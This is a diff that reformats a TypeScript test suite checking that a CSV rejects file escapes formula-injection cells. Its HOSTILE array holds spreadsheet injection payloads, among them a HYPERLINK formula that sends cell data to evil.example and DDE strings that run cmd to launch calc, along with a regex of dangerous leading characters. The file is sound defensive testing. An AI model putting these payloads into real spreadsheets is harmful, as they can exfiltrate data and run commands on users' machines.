@@ -13,7 +13,17 @@ import { customerColumns, customerMapping, customerSchema, tempDir } from '../co
  */
 
 // (A cell starting with CR is read from a CSV file as one starting with LF, so CR is checked on its own below.)
-const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|" /C calc"!A0', '-2+3+cmd|" /C calc"!A0', '\t=1+1', '=1+1\n2', '＝1+1', "'already quoted", 'plain'];
+const HOSTILE = [
+  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+  "+cmd|' /C calc'!A0",
+  '@SUM(1+1)*cmd|" /C calc"!A0',
+  '-2+3+cmd|" /C calc"!A0',
+  '\t=1+1',
+  '=1+1\n2',
+  '＝1+1',
+  "'already quoted",
+  'plain',
+];
 const DANGEROUS = /^[=+\-@\t\r＝＋－＠]/;
 
 let work: { dir: string; cleanup: () => Promise<void> };
@@ -50,7 +60,8 @@ async function checkRejects(dir: string): Promise<void> {
 
 describe('rejects.csv against CSV injection', () => {
   it('escapes each character OWASP lists, and only those', () => {
-    for (const start of ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']) expect(neutraliseCell(`${start}1`)).toEqual({ text: `'${start}1`, escaped: true });
+    for (const start of ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'])
+      expect(neutraliseCell(`${start}1`)).toEqual({ text: `'${start}1`, escaped: true });
     for (const safe of ['1', 'a=b', ' =1', "'=1", '', '\n=1']) expect(neutraliseCell(safe)).toEqual({ text: safe, escaped: false });
     expect(originalCell("''=1", true)).toBe("'=1");
     expect(originalCell("'kept", false)).toBe("'kept");
@@ -65,7 +76,10 @@ describe('rejects.csv against CSV injection', () => {
 
   it('the same when the job is split over threads and the rejects are merged', async () => {
     const out = path.join(work.dir, 'split');
-    const summary = await runPrepareJob({ inputPath: input, schema: customerSchema.schema, mapping: customerMapping, outDir: out }, { parallelism: 2, minSegmentBytes: 8 * 1024 });
+    const summary = await runPrepareJob(
+      { inputPath: input, schema: customerSchema.schema, mapping: customerMapping, outDir: out },
+      { parallelism: 2, minSegmentBytes: 8 * 1024 },
+    );
     expect(summary.rowsRejected).toBe(rows.length);
     await checkRejects(out);
   }, 120_000);
